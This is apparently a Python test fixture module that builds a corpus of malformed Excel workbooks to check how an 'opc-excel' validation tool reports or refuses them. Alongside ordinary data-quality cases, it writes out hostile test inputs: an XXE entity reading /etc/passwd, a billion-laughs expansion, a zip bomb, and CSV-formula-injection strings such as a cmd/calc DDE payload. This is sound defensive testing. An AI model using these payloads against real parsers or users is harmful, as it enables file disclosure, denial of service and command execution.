"""A corpus of bad workbooks, each built in code: what the office will really feed the tool.

Every case is a :class:`BadBook`: a builder that writes the file into a folder, the exit status
``opc-excel check`` and ``refresh`` must give, and the problems they must report, each as
(code, sheet, cell). Most start from the clean factory programme (no problem at all) and spoil
it one way, so the expected problems are exactly the ones listed. ``tests/test_bad_workbooks.py``
runs them all through the command line.
"""

from __future__ import annotations

import random
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, time, timedelta
from pathlib import Path

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.styles import PatternFill

from opc_excel.read import contract
from tests.factory import Rows, clean_sheets, column_of, set_value, write_workbook

OK, BLOCKING, UNREADABLE = 0, 1, 2
Sheets = dict[str, Rows]
Problem = tuple[str, str, str]  # (code, sheet, cell); cell "" when the problem has none

OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAST_ROW, LAST_COLUMN = 1_048_576, "XFD"


@dataclass(frozen=True)
class BadBook:
    """One case of the corpus: how to build it, and what the command line must say about it."""

    name: str
    build: Callable[[Path], Path]  # writes the workbook into a folder, returns its path
    status: int  # exit status of check (and of refresh --out, unless refresh_status says otherwise)
    problems: tuple[Problem, ...] = ()  # every problem reported, as (code, sheet, cell)
    refused: str = ""  # status 2: a word the one-line message must contain
    named: str = ""  # status 2: what the message names in « » (the file, unless a sheet is at fault)
    keeps_parts: tuple[str, ...] = ()  # zip parts the refreshed copy must hold unchanged
    refresh_status: int | None = None  # when a faithful copy can't be written (refused, status 2)
    only_controles: bool = False  # the date de situation is unreadable: a refresh writes Contrôles alone

    @property
    def refresh_expected(self) -> int:
        return self.status if self.refresh_status is None else self.refresh_status

    def __str__(self) -> str:
        return self.name


# ---------------------------------------------------------------- building blocks


def factory_book(name: str, spoil: Callable[[Sheets], object] | None = None,
                 edit: Callable[[openpyxl.Workbook], object] | None = None,
                 **write_options: object) -> Callable[[Path], Path]:
    """Return a builder of the clean factory programme, spoiled as rows and/or as an openpyxl workbook."""
    def build(folder: Path) -> Path:
        sheets = clean_sheets()
        if spoil is not None:
            spoil(sheets)
        path = write_workbook(folder / name, sheets, **write_options)
        if edit is not None:
            workbook = openpyxl.load_workbook(path)
            edit(workbook)
            workbook.save(path)
        return path
    return build


def cell(sheet: str, data_row: int, header: str, value: object) -> Callable[[Sheets], None]:
    """Return a spoiler setting one cell (data row 1 = the first under the header)."""
    return lambda sheets: set_value(sheets, sheet, data_row, header, value)


def cells(*spoilers: Callable[[Sheets], object]) -> Callable[[Sheets], None]:
    def spoil(sheets: Sheets) -> None:
        for spoiler in spoilers:
            spoiler(sheets)
    return spoil


def rezip(src: Path, dst: Path, *, replace: dict[str, bytes] | None = None,
          add: dict[str, bytes] | None = None) -> Path:
    """Return *dst*: the zip *src* with parts replaced and added."""
    replace, add = replace or {}, add or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for name in zin.namelist():
            zout.writestr(name, replace.get(name, zin.read(name)))
        for name, data in add.items():
            zout.writestr(name, data)
    return dst


def sheet_part(path: Path, title: str) -> str:
    """Return the zip part of the worksheet called *title*, found through the workbook's relationships."""
    with zipfile.ZipFile(path) as zf:
        workbook = zf.read("xl/workbook.xml").decode()
        rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    rel_id = re.search(rf'<sheet [^>]*name="{re.escape(title)}"[^>]*r:id="(\w+)"', workbook)[1]
    target = re.search(rf'<Relationship [^>]*Id="{rel_id}"[^>]*Target="([^"]+)"', rels)
    target = target or re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rel_id}"', rels)
    return target[1].lstrip("/") if target[1].startswith("/xl/") else f"xl/{target[1]}"


def xml_book(name: str, sheet: str, cells_xml: dict[str, str],
             spoil: Callable[[Sheets], object] | None = None,
             extra: Callable[[str], str] | None = None) -> Callable[[Path], Path]:
    """Return a builder of the factory programme whose *sheet* XML is edited by hand.

    *cells_xml* maps an address to the ``<c>`` element that replaces the cell there, as another
    program would write it; *extra* may rewrite the whole sheet XML afterwards.
    """
    def build(folder: Path) -> Path:
        source = factory_book(f"source-{name}", spoil)(folder)
        part = sheet_part(source, sheet)
        with zipfile.ZipFile(source) as zf:
            xml = zf.read(part).decode()
        for address, element in cells_xml.items():
            xml, found = re.subn(rf'<c r="{address}"(?: [^>]*)?(?:/>|>.*?</c>)', element, xml, count=1)
            assert found, f"{sheet}!{address} is not in the factory workbook"
        if extra is not None:
            xml = extra(xml)
        target = rezip(source, folder / name, replace={part: xml.encode()})
        source.unlink()
        return target
    return build


# ---------------------------------------------------------------- spoilers and edits


def drop_sheet(name: str) -> Callable[[Sheets], None]:
    return lambda sheets: sheets.pop(name)


def rename_header(sheet: str, header: str, new: str) -> Callable[[Sheets], None]:
    def spoil(sheets: Sheets) -> None:
        sheets[sheet][0][column_of(sheets, sheet, header)] = new
    return spoil


def add_column(sheet: str, header: str) -> Callable[[Sheets], None]:
    return lambda sheets: sheets[sheet][0].append(header)


def whole_column(sheet: str, header: str, value: Callable[[object], object]) -> Callable[[Sheets], None]:
    """Return a spoiler replacing every value of a column by ``value(old)``."""
    def spoil(sheets: Sheets) -> None:
        col = column_of(sheets, sheet, header)
        for row in sheets[sheet][1:]:
            row[col] = value(row[col])
    return spoil


def only_headers(sheets: Sheets) -> None:
    for name in list(sheets):
        if name not in (contract.PARAMETRES, contract.LISTES):
            del sheets[name][1:]


def repeat_header_row(sheet: str, before_data_row: int) -> Callable[[Sheets], None]:
    """Return a spoiler pasting the header row again among the data (a copied block)."""
    def spoil(sheets: Sheets) -> None:
        sheets[sheet].insert(before_data_row, list(sheets[sheet][0]))
    return spoil


def duplicate_header(sheet: str, header: str, values: list[object]) -> Callable[[Sheets], None]:
    """Return a spoiler adding a second column titled *header* at the end, filled with *values*."""
    def spoil(sheets: Sheets) -> None:
        sheets[sheet][0].append(header)
        for row, value in zip(sheets[sheet][1:], values, strict=False):
            row.append(value)
    return spoil


def merge(sheet: str, ref: str) -> Callable[[openpyxl.Workbook], None]:
    return lambda workbook: workbook[sheet].merge_cells(ref)


def put(sheet: str, address: str, value: object) -> Callable[[openpyxl.Workbook], None]:
    def edit(workbook: openpyxl.Workbook) -> None:
        workbook[sheet][address] = value
    return edit


def hide(workbook: openpyxl.Workbook) -> None:
    workbook[contract.JALONS_SHEET].sheet_state = "hidden"
    workbook[contract.LISTES].sheet_state = "veryHidden"


def rename_sheets(workbook: openpyxl.Workbook) -> None:
    workbook[contract.OPERATIONS].title = "Opérations "  # a trailing space, invisible on the tab
    workbook[contract.JALONS_SHEET].title = " Jalons"
    workbook[contract.FINANCEMENTS].title = "FINANCEMENTS  "


def blank_formatted_rows(name: str, count: int) -> Callable[[Path], Path]:
    """Return a builder of the factory programme with *count* empty formatted rows under the Jalons data,
    as Excel stores rows a user formatted whole: a row style, and a formatted cell, without a value."""
    def format_first_blank_row(workbook: openpyxl.Workbook) -> None:
        target = workbook[contract.JALONS_SHEET].cell(len(clean_sheets()[contract.JALONS_SHEET]) + 1, 3)
        target.fill = PatternFill("solid", fgColor="FFF2CC")
        target.number_format = "DD/MM/YYYY"

    def build(folder: Path) -> Path:
        source = factory_book(f"source-{name}", edit=format_first_blank_row)(folder)
        part = sheet_part(source, contract.JALONS_SHEET)
        with zipfile.ZipFile(source) as zf:
            xml = zf.read(part).decode()
        first = len(clean_sheets()[contract.JALONS_SHEET]) + 1
        template = re.search(rf'<row r="{first}".*?</row>', xml)[0]
        style = re.search(r' s="(\d+)"', template)[1]
        rows = "".join(f'<row r="{n}" s="{style}" customFormat="1"><c r="C{n}" s="{style}"/></row>'
                       for n in range(first, first + count))
        xml = xml.replace(template, rows).replace(re.search(r'<dimension ref="[^"]*"/>', xml)[0],
                                                  f'<dimension ref="A1:H{first + count - 1}"/>')
        target = rezip(source, folder / name, replace={part: xml.encode()})
        source.unlink()
        return target
    return build


def empty_formatted_cells(name: str, rows: int) -> Callable[[Path], Path]:
    """Return a builder of the factory programme whose Jalons hold *rows* rows of twelve empty formatted
    cells under the data, as Excel stores a range formatted far below the data (A8:L<rows>)."""
    def build(folder: Path) -> Path:
        source = factory_book(f"source-{name}")(folder)
        part = sheet_part(source, contract.JALONS_SHEET)
        with zipfile.ZipFile(source) as zf:
            xml = zf.read(part).decode()
        first = len(clean_sheets()[contract.JALONS_SHEET]) + 1
        rows_xml = "".join(f'<row r="{n}">' + "".join(f'<c r="{col}{n}" s="0"/>' for col in "ABCDEFGHIJKL")
                           + "</row>" for n in range(first, first + rows))
        xml = xml.replace("</sheetData>", rows_xml + "</sheetData>")
        target = rezip(source, folder / name, replace={part: xml.encode()})
        source.unlink()
        return target
    return build


def huge_text(size: int) -> str:
    """Return *size* random letters: they do not compress, so the zip-bomb check does not see them."""
    return "".join(random.Random(size).choices("abcdefghijklmnopqrstuvwxyz", k=size))


def huge_shared_string(folder: Path) -> Path:
    """Return the factory programme whose Libellé of PER-DEM-01 is a 2 MB shared string (a cell holds 32 767)."""
    source = xml_book("source-geante.xlsx", contract.OPERATIONS, {"B2": '<c r="B2" t="s"><v>0</v></c>'})(folder)
    sst = f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>{huge_text(2 * 1024 * 1024)}</t></si></sst>'
    target = with_shared_strings(source, folder / "chaine-geante.xlsx", sst.encode())
    source.unlink()
    return target


def formula_like_texts(workbook: openpyxl.Workbook) -> None:
    """Type texts that a spreadsheet would run as formulas (as Excel keeps them after a leading ')."""
    ws = workbook[contract.OPERATIONS]
    for address, text in {"B2": '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez ici")',
                          "B3": "+cmd|' /C calc'!A0", "B4": "-2+3", "R2": "@SUM(A1:A9)",
                          "G3": "=1+2"}.items():  # G3: an amount, shown back in Contrôles
        ws[address].value = text
        ws[address].data_type = "s"


def protect(workbook: openpyxl.Workbook) -> None:
    workbook[contract.OPERATIONS].protection.sheet = True
    workbook[contract.OPERATIONS].protection.password = "anru"
    workbook.security = openpyxl.workbook.protection.WorkbookProtection(lockStructure=True)


def chart_sheet_named(name: str) -> Callable[[openpyxl.Workbook], None]:
    """Return an edit replacing sheet *name* by a chart sheet of the same name (a chart moved to its own tab)."""
    def edit(workbook: openpyxl.Workbook) -> None:
        index = workbook.sheetnames.index(name)
        del workbook[name]
        chart = BarChart()
        chart.add_data(Reference(workbook[contract.OPERATIONS], min_col=7, min_row=1, max_row=4),
                       titles_from_data=True)
        workbook.create_chartsheet(name, index).add_chart(chart)
    return edit


# ---------------------------------------------------------------- whole-file builders


def xlsm_with_macros(folder: Path) -> Path:
    """Return the factory programme saved as a macro-enabled workbook holding a VBA project."""
    source = factory_book("source-macros.xlsx")(folder)
    with zipfile.ZipFile(source) as zf:
        types = zf.read("[Content_Types].xml").decode()
        rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    types = types.replace("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                          "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    types = types.replace("</Types>", '<Default Extension="bin" '
                                      'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    rels = rels.replace("</Relationships>", '<Relationship Id="rIdVBA" Type="http://schemas.microsoft.com/'
                                            'office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
                                            "</Relationships>")
    target = rezip(source, folder / "macros.xlsm",
                   replace={"[Content_Types].xml": types.encode(), "xl/_rels/workbook.xml.rels": rels.encode()},
                   add={"xl/vbaProject.bin": VBA_PROJECT})
    source.unlink()
    return target


VBA_PROJECT = OLE_MAGIC + b"\0" * 504 + "VBA".encode("utf-16-le") + b"Sub Actualiser()\r\nEnd Sub\r\n" * 8


def saved_by_libreoffice(folder: Path) -> Path:
    """Return the factory programme (with a formula) as LibreOffice Calc saves it."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) n'est pas installé : le cas « enregistré par LibreOffice » est sauté")
    source_dir, out_dir = folder / "libreoffice-source", folder / "libreoffice-out"
    source_dir.mkdir(exist_ok=True)
    factory_book("libreoffice.xlsx", cell(contract.OPERATIONS, 1, "Commentaire", "=1+1"))(source_dir)
    profile = (folder / "libreoffice-profile").resolve().as_uri()  # its own profile: runs may overlap
    subprocess.run([soffice, f"-env:UserInstallation={profile}", "--headless", "--convert-to", "xlsx",
                    "--outdir", str(out_dir), str(source_dir / "libreoffice.xlsx")],
                   check=True, capture_output=True, timeout=180)
    return Path(shutil.move(out_dir / "libreoffice.xlsx", folder / "libreoffice.xlsx"))


def text_file(folder: Path) -> Path:
    path = folder / "export.xlsx"
    path.write_text("ID opération;Libellé;Coût\nPER-DEM-01;Démolition;2400000\n", encoding="utf-8")
    return path


def truncated_zip(folder: Path) -> Path:
    whole = factory_book("entier.xlsx")(folder)
    path = folder / "tronqué.xlsx"
    path.write_bytes(whole.read_bytes()[: whole.stat().st_size * 2 // 3])
    whole.unlink()
    return path


def encrypted_ole(folder: Path) -> Path:
    """Return a file shaped like an Excel workbook encrypted with a password (an OLE compound file)."""
    path = folder / "protégé.xlsx"
    path.write_bytes(OLE_MAGIC + b"\0" * 1016 + "EncryptionInfo".encode("utf-16-le") + b"\0" * 200
                     + "EncryptedPackage".encode("utf-16-le") + b"\0" * 4096)
    return path


def with_shared_strings(source: Path, target: Path, sst: bytes) -> Path:
    """Return *target*: *source* with a shared strings part (openpyxl writes inline strings instead)."""
    with zipfile.ZipFile(source) as zf:
        types = zf.read("[Content_Types].xml").decode()
        rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    types = types.replace("</Types>", '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                      'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    rels = rels.replace("</Relationships>", '<Relationship Id="rIdSST" Type="http://schemas.openxmlformats.org/'
                                            'officeDocument/2006/relationships/sharedStrings" '
                                            'Target="sharedStrings.xml"/></Relationships>')
    return rezip(source, target, replace={"[Content_Types].xml": types.encode(),
                                          "xl/_rels/workbook.xml.rels": rels.encode()},
                 add={"xl/sharedStrings.xml": sst})


def shared_strings_bomb(folder: Path) -> Path:
    """Return the factory programme whose shared strings part inflates a thousandfold (24 MB of strings)."""
    source = factory_book("source-bombe.xlsx")(folder)
    body = b"<si><t>ANRU</t></si>" * 1_200_000
    sst = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN_NS}" count="1200000" '
           f'uniqueCount="1200000">').encode() + body + b"</sst>"
    target = with_shared_strings(source, folder / "bombe.xlsx", sst)
    source.unlink()
    return target


def _with_doctype(name: str, part: str, doctype: str) -> Callable[[Path], Path]:
    """Return a builder of the factory programme whose *part* declares *doctype*."""
    def build(folder: Path) -> Path:
        source = factory_book(f"source-{name}")(folder)
        if part == "xl/sharedStrings.xml":
            xml = f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>&l9;</t></si></sst>'
            target = with_shared_strings(source, folder / name, (XML_DECLARATION + doctype + xml).encode())
        else:
            with zipfile.ZipFile(source) as zf:
                xml = zf.read(part).decode()
            body = xml.split("?>", 1)[-1] if xml.startswith("<?xml") else xml
            target = rezip(source, folder / name, replace={part: (XML_DECLARATION + doctype + body).encode()})
        source.unlink()
        return target
    return build


XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'


XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = ('<!DOCTYPE x [<!ENTITY l0 "ha">'
          + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>")


def malformed_sheet(folder: Path) -> Path:
    source = factory_book("source-malforme.xlsx")(folder)
    part = sheet_part(source, contract.OPERATIONS)
    target = rezip(source, folder / "malformé.xlsx",
                   replace={part: f'<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1"><c r="A1">'.encode()})
    source.unlink()
    return target


# ---------------------------------------------------------------- the corpus

OPS, JAL, FIN, REL, PAR, DEP = (contract.OPERATIONS, contract.JALONS_SHEET, contract.FINANCEMENTS,
                                contract.RELOGEMENT, contract.PARAMETRES, contract.DEPENDANCES)
COST = "Coût convention (€ HT)"
REQUIRED_OPERATION_CELLS = ("B", "C", "D", "E", "F", "G")  # Libellé … Coût convention


CASES: list[BadBook] = [
    # ---- every problem code, through the command line (its exit status, the input left alone)
    BadBook("missing-required-sheet", factory_book("sans-jalons.xlsx", drop_sheet(JAL)), BLOCKING,
            (("DQ-SHEET", JAL, ""),)),
    BadBook("missing-required-column", factory_book("sans-cout.xlsx", rename_header(OPS, COST, "Coût")), BLOCKING,
            (("DQ-COL", OPS, "T1"),)),  # reported where it should be added, after the last header
    BadBook("header-below-row-10", factory_book("titre-long.xlsx", title_rows={OPS: 10}), BLOCKING,
            (("DQ-COL", OPS, "A1"),)),  # the sheet is not read at all: one problem, not one per row
    BadBook("required-cell-empty", factory_book("libelle-vide.xlsx", cell(OPS, 1, "Libellé", None)), BLOCKING,
            (("DQ-REQ", OPS, "B2"),)),
    BadBook("unreadable-amount", factory_book("nc.xlsx", cell(OPS, 2, COST, "NC")), BLOCKING,
            (("DQ-TYPE", OPS, "G3"),)),
    BadBook("not-in-list", factory_book("famille.xlsx", cell(OPS, 1, "Famille", "Démolitions")), BLOCKING,
            (("DQ-LIST", OPS, "D2"),)),
    BadBook("duplicate-id", factory_book("doublon.xlsx", cell(REL, 2, "N° ménage", "M-001")), BLOCKING,
            (("DQ-DUP", REL, "A3"),)),
    BadBook("unknown-operation", factory_book("ref.xlsx", cell(FIN, 1, "ID opération", "PER-XXX-99")), BLOCKING,
            (("DQ-REF", FIN, "A2"),)),
    BadBook("delivery-before-start", factory_book("ordre.xlsx", cell(JAL, 3, "Date convention",
                                                                     datetime(2010, 1, 1))),
            BLOCKING, (("DQ-DATE", JAL, "C4"),)),
    BadBook("actual-date-in-future", factory_book("futur.xlsx", cell(JAL, 2, "Date réelle", datetime(2011, 10, 1))),
            BLOCKING, (("DQ-FUTURE", JAL, "F3"),)),
    BadBook("negative-amount", factory_book("negatif.xlsx", cell(FIN, 2, "Montant convention (€)", -1)), BLOCKING,
            (("DQ-NEG", FIN, "C3"),)),
    BadBook("personal-data-column", factory_book("noms.xlsx", add_column(REL, "Nom du ménage")), BLOCKING,
            (("DQ-PRIV", REL, "M1"),)),
    BadBook("text-date-read", factory_book("semestre.xlsx", cell(JAL, 1, "Date convention", "S1 2010")), OK,
            (("DQ-TEXTDATE", JAL, "C2"),)),
    BadBook("text-dates-down-a-column", factory_book("dates-texte.xlsx", whole_column(
        JAL, "Date prévisionnelle", lambda v: v and v.strftime("%d/%m/%Y"))), OK,
        (("DQ-TEXTDATE", JAL, "E3"),)),  # one warning for the column, at its first text date
    BadBook("parameter-unreadable", factory_book("seuil.xlsx", cell(PAR, 14, "Valeur", "six")), OK,
            (("DQ-PARAM", PAR, "B15"),)),
    # ---- merged cells
    BadBook("merged-cells-over-data", factory_book("fusion.xlsx", edit=merge(OPS, "B2:C2")), BLOCKING,
            (("DQ-REQ", OPS, "C2"),)),  # the district hidden under the merged label is empty
    BadBook("merged-ids-down-the-milestones", factory_book("fusion-ids.xlsx", edit=merge(JAL, "A2:A4")), BLOCKING,
            (("DQ-REQ", JAL, "A3"), ("DQ-REQ", JAL, "A4"))),  # only the first cell of a merge holds the id
    BadBook("merged-title-above-header", factory_book("fusion-titre.xlsx", edit=merge(OPS, "A1:Q1"),
                                                      title_rows={OPS: 1}), OK),
    # ---- formulas
    BadBook("formula-saved-by-openpyxl", factory_book("formule.xlsx", cell(OPS, 1, "Commentaire", "=1+1")), OK,
            (("DQ-FORMULA", OPS, "S2"),)),  # no cached value: read as empty, with a warning
    BadBook("formula-without-value-in-required-cell", factory_book("formule-cout.xlsx", cell(OPS, 1, COST,
                                                                                            "=1200000*2")),
            BLOCKING, (("DQ-REQ", OPS, "G2"), ("DQ-FORMULA", OPS, "G2"))),
    BadBook("formula-with-cached-value", xml_book("formule-calculee.xlsx", OPS, {
        "G2": '<c r="G2"><f>1200000*2</f><v>2400000</v></c>',  # as Excel saves it
        "G3": '<c r="G3"><f>G2-900000</f><v>1500000</v></c>'}), OK),
    BadBook("formula-with-cached-text", xml_book("formule-texte.xlsx", JAL, {
        "C2": '<c r="C2" t="str"><f>"S1 "&amp;2010</f><v>S1 2010</v></c>'}), OK, (("DQ-TEXTDATE", JAL, "C2"),)),
    BadBook("formula-with-cached-error", xml_book("formule-erreur.xlsx", OPS, {
        "G2": '<c r="G2" t="e"><f>1/0</f><v>#DIV/0!</v></c>'}), BLOCKING, (("DQ-TYPE", OPS, "G2"),)),
    BadBook("shared-formula-with-cached-values", xml_book("formule-partagee.xlsx", FIN, {
        "C2": '<c r="C2"><f t="shared" ref="C2:C3" si="0">F2</f><v>1200000</v></c>',
        "C3": '<c r="C3"><f t="shared" si="0"/><v>1200000</v></c>'}), OK),
    # ---- Excel error values typed or computed in data cells
    BadBook("excel-errors-in-data", factory_book("erreurs.xlsx", cells(
        cell(JAL, 1, "Date convention", "#N/A"), cell(OPS, 1, "Libellé", "#REF!"),
        cell(FIN, 1, "Montant engagé (€)", "#DIV/0!"))), BLOCKING,
        (("DQ-TYPE", OPS, "B2"), ("DQ-TYPE", JAL, "C2"), ("DQ-TYPE", FIN, "F2"))),
    BadBook("excel-error-as-date-de-situation", factory_book("erreur-situation.xlsx",
                                                             cell(PAR, 7, "Valeur", "#VALUE!")), BLOCKING,
            (("DQ-TYPE", PAR, "B8"),), only_controles=True),  # nothing is dated at today in its place
    BadBook("text-as-date-de-situation", factory_book("texte-situation.xlsx",
                                                      cell(PAR, 7, "Valeur", "fin septembre")), BLOCKING,
            (("DQ-TYPE", PAR, "B8"),), only_controles=True),
    # ---- dates
    BadBook("date-before-1900", factory_book("1899.xlsx", cell(JAL, 1, "Date convention", datetime(1899, 6, 15))),
            BLOCKING, (("DQ-TYPE", JAL, "C2"),)),
    BadBook("text-date-before-1900", factory_book("1789.xlsx", cell(JAL, 1, "Date convention", "14/07/1789")),
            BLOCKING, (("DQ-TYPE", JAL, "C2"),)),
    BadBook("date-in-2200", factory_book("2200.xlsx", cell(JAL, 1, "Date prévisionnelle", datetime(2200, 1, 1))),
            BLOCKING, (("DQ-TYPE", JAL, "E2"),)),
    BadBook("date-as-serial-number", factory_book("serie.xlsx", cell(JAL, 1, "Date convention", 40238)), OK,
            (("DQ-TEXTDATE", JAL, "C2"),)),  # 40238 is 01/03/2010, read with a note
    BadBook("year-as-date", factory_book("annee.xlsx", cell(JAL, 1, "Date convention", 2010)), BLOCKING,
            (("DQ-TYPE", JAL, "C2"),)),
    BadBook("negative-serial-date", factory_book("serie-negative.xlsx", cell(JAL, 1, "Date convention", -5)),
            BLOCKING, (("DQ-TYPE", JAL, "C2"),)),
    BadBook("time-of-day-as-date", factory_book("heure.xlsx", cell(JAL, 1, "Date convention", time(9, 30))),
            BLOCKING, (("DQ-TYPE", JAL, "C2"),)),
    BadBook("id-turned-into-a-date", factory_book("id-date.xlsx", cell(REL, 1, "N° ménage", datetime(2024, 2, 1))),
            BLOCKING, (("DQ-TYPE", REL, "A2"),)),  # Excel turned 1-2 into 01/02
    # ---- amounts and numbers
    BadBook("text-column-in-amounts", factory_book("montants-texte.xlsx", whole_column(
        FIN, "Montant convention (€)", lambda _: "à préciser")), BLOCKING,
        tuple(("DQ-TYPE", FIN, f"C{row}") for row in range(2, 8))),
    BadBook("amounts-typed-as-text", factory_book("montants-lisibles.xlsx", whole_column(
        FIN, "Montant convention (€)", lambda v: f"{v / 1e6:.1f} M€".replace(".", ","))), OK,
        (("DQ-TEXTNUM", FIN, "C2"),)),  # one warning for the column, naming its cells
    BadBook("booleans-and-durations-in-amounts", factory_book("vrai.xlsx", cells(
        cell(OPS, 1, COST, True), cell(FIN, 1, "Montant engagé (€)", timedelta(hours=36)))), BLOCKING,
        (("DQ-TYPE", OPS, "G2"), ("DQ-TYPE", FIN, "F2"))),
    BadBook("number-too-big-for-a-float", xml_book("geant.xlsx", OPS, {
        "G2": f'<c r="G2"><v>{"9" * 400}</v></c>'}), BLOCKING, (("DQ-TYPE", OPS, "G2"),)),
    # the copy keeps the cell as it was: a refresh copies the input sheets' parts, it does not re-write them
    BadBook("not-a-number-stored", xml_book("nan.xlsx", OPS, {"G3": '<c r="G3"><v>NaN</v></c>'}), UNREADABLE,
            refused="ligne 3", named=OPS),  # Excel calls such a file damaged: the sheet and row are named
    BadBook("infinity-stored", xml_book("inf.xlsx", OPS, {"K4": '<c r="K4"><v>1E+400</v></c>'}), BLOCKING,
            (("DQ-TYPE", OPS, "K4"),)),  # read as infinity; kept as written in the copy
    BadBook("lag-of-eight-thousand-years", factory_book("decalage.xlsx", cell(DEP, 1, "Délai minimal (mois)", 95_854)),
            BLOCKING, (("DQ-TYPE", DEP, "C2"),)),  # months beyond a century: refused, not added to a date
    BadBook("freshness-of-a-billion-days", factory_book("fraicheur.xlsx", cell(PAR, 27, "Valeur", 1e9)), OK,
            (("DQ-PARAM", PAR, "B28"),)),  # the default is used, with a warning
    BadBook("huge-but-finite-amounts", factory_book("enorme.xlsx", cells(  # their sum would be infinite
        cell(OPS, 1, COST, 1e308), cell(OPS, 2, COST, 1e308))), BLOCKING,
        (("DQ-TYPE", OPS, "G2"), ("DQ-TYPE", OPS, "G3"))),
    BadBook("amount-of-almost-nothing", factory_book("infime.xlsx", cell(FIN, 1, "Montant convention (€)",
                                                                        1.1125369292536007e-308)),
            BLOCKING, (("DQ-TYPE", FIN, "C2"),)),  # found by fuzzing: percentages of it were infinite
    # ---- size and reach
    BadBook("10000-blank-formatted-rows", blank_formatted_rows("lignes-vides.xlsx", 10_000), OK),
    BadBook("stray-value-in-the-last-row", factory_book("derniere-ligne.xlsx",
                                                        edit=put(OPS, f"A{LAST_ROW}", "x")),
            BLOCKING, tuple(("DQ-REQ", OPS, f"{col}{LAST_ROW}") for col in REQUIRED_OPERATION_CELLS)),
    BadBook("stray-value-in-the-last-column", factory_book("derniere-colonne.xlsx", edit=put(
        OPS, f"{LAST_COLUMN}1", "notes")), OK),
    BadBook("stray-value-in-the-last-column-of-a-data-row", factory_book("derniere-colonne-2.xlsx", edit=put(
        JAL, f"{LAST_COLUMN}3", "x")), OK),
    BadBook("a-million-empty-formatted-cells", empty_formatted_cells("cellules-vides.xlsx", 90_000), UNREADABLE,
            refused="cellules vides mises en forme", named=JAL),  # 1 080 000 cells: the sheet is named
    BadBook("huge-attribute-in-a-sheet", xml_book("attribut-geant.xlsx", OPS, {
        "B2": f'<c r="B2" t="inlineStr" x="{huge_text(2 * 1024 * 1024)}"><is><t>Démolition</t></is></c>'}),
        UNREADABLE, refused="32 767 caractères"),  # one 2 MB tag: costly for the XML parser
    BadBook("huge-shared-string", huge_shared_string, UNREADABLE, refused="32 767 caractères"),
    BadBook("wrong-dimension-tag", xml_book("dimension.xlsx", OPS, {}, extra=lambda xml: re.sub(
        r'<dimension ref="[^"]*"/>', '<dimension ref="A1"/>', xml)), OK),  # written so by other programs
    BadBook("headers-only", factory_book("vierge.xlsx", only_headers), OK),
    # ---- sheets
    BadBook("hidden-and-very-hidden-sheets", factory_book("masquees.xlsx", edit=hide), OK),
    BadBook("sheet-names-with-spaces", factory_book("onglets.xlsx", cell(OPS, 2, COST, "NC"), edit=rename_sheets),
            BLOCKING, (("DQ-TYPE", "Opérations ", "G3"),)),  # named as the tab is, spaces included
    BadBook("chart-sheet-named-like-an-input-sheet", factory_book("graphique.xlsx",
                                                                  edit=chart_sheet_named(contract.DEPENDANCES)), OK),
    BadBook("formula-like-texts", factory_book("injection.xlsx", edit=formula_like_texts), BLOCKING,
            (("DQ-TYPE", OPS, "G3"),)),  # shown back as text in Contrôles and Alertes, never as formulas
    BadBook("protected-sheet-and-structure", factory_book("protege.xlsx", edit=protect), OK),
    BadBook("unicode-everywhere", factory_book("unicode.xlsx", cells(
        cell(OPS, 1, "Libellé", "Démolition \U0001f3da « Ronsard » \u2014 \u202einversé\u202c \u6771\u4eac \ufdfd"),
        cell(OPS, 2, "Commentaire", "x" * 32_767),  # the longest text a cell holds
        cell(REL, 1, "N° ménage", "M-001\u200b"))), OK),  # a zero-width space: another id, not a duplicate
    # ---- headers
    BadBook("duplicate-headers", factory_book("entetes-doubles.xlsx", duplicate_header(
        OPS, COST, [1, 2, 3])), OK, (("DQ-COL", OPS, "T1"),)),  # the first is read; the second is named
    BadBook("second-header-row-further-down", factory_book("entete-repete.xlsx", repeat_header_row(OPS, 3)), OK,
            (("DQ-COL", OPS, "A4"),)),  # a pasted block: its header row is skipped with a warning
    # ---- other producers
    BadBook("xlsm-with-macros", xlsm_with_macros, OK, keeps_parts=("xl/vbaProject.bin",)),
    BadBook("saved-by-libreoffice", saved_by_libreoffice, OK),  # formulas come with their values
    # ---- files that are not workbooks (exit 2, one French sentence, nothing written)
    BadBook("text-file", text_file, UNREADABLE, refused="CSV"),
    BadBook("truncated-zip", truncated_zip, UNREADABLE, refused="incomplet"),
    BadBook("encrypted", encrypted_ole, UNREADABLE, refused="mot de passe"),
    BadBook("shared-strings-zip-bomb", shared_strings_bomb, UNREADABLE, refused="200 fois"),
    BadBook("external-entity", _with_doctype("xxe.xlsx", "xl/workbook.xml", XXE), UNREADABLE, refused="DOCTYPE"),
    BadBook("entity-expansion", _with_doctype("rires.xlsx", "xl/sharedStrings.xml", LAUGHS), UNREADABLE,
            refused="DOCTYPE"),
    BadBook("malformed-sheet-xml", malformed_sheet, UNREADABLE, refused="n'a pas pu être lu"),
]
